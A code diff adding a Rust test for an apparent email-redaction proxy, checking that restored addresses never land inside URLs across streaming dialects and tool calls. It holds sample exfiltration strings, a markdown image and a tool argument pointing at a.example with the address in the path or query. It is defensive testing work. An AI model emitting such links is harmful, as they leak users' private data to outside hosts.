@@ -445,3 +445,31 @@ fn another_exchange_knows_nothing_and_records_know_no_value() {
     assert_eq!(sent(&plain)["messages"][0]["content"], "[email-address]");
     assert_eq!(plain.judged.restored.len(), 0);
 }
+
+/// A program that shows the answer would fetch from there, and take the value along (threat E4).
+#[test]
+fn no_value_goes_into_an_address() {
+    let says = "![x](https://a.example/?q=[email-address-1]) [email-address-1] <//a.example/ [email-address-1]> [email-address-1]";
+    let means = format!("![x](https://a.example/?q=[email-address-1]) {MAIL} <//a.example/ [email-address-1]> {MAIL}");
+    let mut dice = Dice(2);
+    for dialect in DIALECTS {
+        let inspection = after(&reversible(), dialect, MAIL);
+        assert_eq!(
+            answered(&inspection, &whole(dialect, says)),
+            Some(whole(dialect, &means))
+        );
+        for most in [1, 4, 30] {
+            let done = streamed(inspection.clone(), &dialect.stream(&dice.cut(says, most)));
+            assert_eq!(done.said(), means, "{dialect:?} {most}");
+        }
+    }
+    for dialect in WITH_TOOLS {
+        let given = json!({"to": "https://a.example/[email-address-1]", "text": "[email-address-1]"});
+        let done = streamed(
+            after(&reversible(), dialect, MAIL),
+            &calling(dialect, "say", &given.to_string()),
+        );
+        let meant = json!({"to": "https://a.example/[email-address-1]", "text": MAIL});
+        assert_eq!(arguments(dialect, &done), meant, "{dialect:?}");
+    }
+}
